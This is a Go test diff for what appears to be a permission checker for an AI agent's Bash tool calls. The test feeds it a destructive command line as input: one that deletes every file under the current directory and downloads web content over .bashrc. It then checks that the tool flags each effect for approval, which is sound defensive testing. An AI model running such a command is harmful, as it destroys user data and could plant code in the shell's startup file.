@@ -206,3 +206,37 @@ func TestTrustDirArgument(t *testing.T) {
 		t.Fatalf("after trusting the parent: trusted=%v allow=%v", res.Trusted, res.Allow)
 	}
 }
+
+// TestPermissionsCheckBashEffects: for Bash, check lists every simple command with its
+// effects and the check that judged each.
+func TestPermissionsCheckBashEffects(t *testing.T) {
+	proj, home := e2eProject(t)
+	in := `{"command":"find . -delete && curl -o .bashrc http://example.com | xargs grep -n TODO"}`
+	out, errOut, code := runReins(t, proj, home, "permissions", "check", "--tool", "Bash", "--input", in, "--allowedTools", "Bash(find:*),Bash(curl:*)")
+	if code != 3 {
+		t.Fatalf("exit %d, want 3 (ask)\n%s%s", code, out, errOut)
+	}
+	for _, want := range []string{
+		"commands:",
+		"find . -delete: ask",
+		"exec find -delete runs commands or changes files: ask (safety check) by exec-family check",
+		"remove below " + proj + ": needs approval by Edit check",
+		"write " + proj + "/.bashrc: ask (safety check) by Edit check",
+		"network curl: allow by no check",
+		"runs grep -n TODO: allow by the rules, as if it stood alone",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("output lacks %q:\n%s", want, out)
+		}
+	}
+	out, _, _ = runReins(t, proj, home, "permissions", "check", "--json", "--tool", "Bash", "--input", in)
+	var res struct {
+		Commands []struct {
+			Command string
+			Effects []struct{ Kind, Target, Check, Outcome string }
+		}
+	}
+	if err := json.Unmarshal([]byte(out), &res); err != nil || len(res.Commands) < 3 {
+		t.Fatalf("json commands: %v %+v\n%s", err, res, out)
+	}
+}
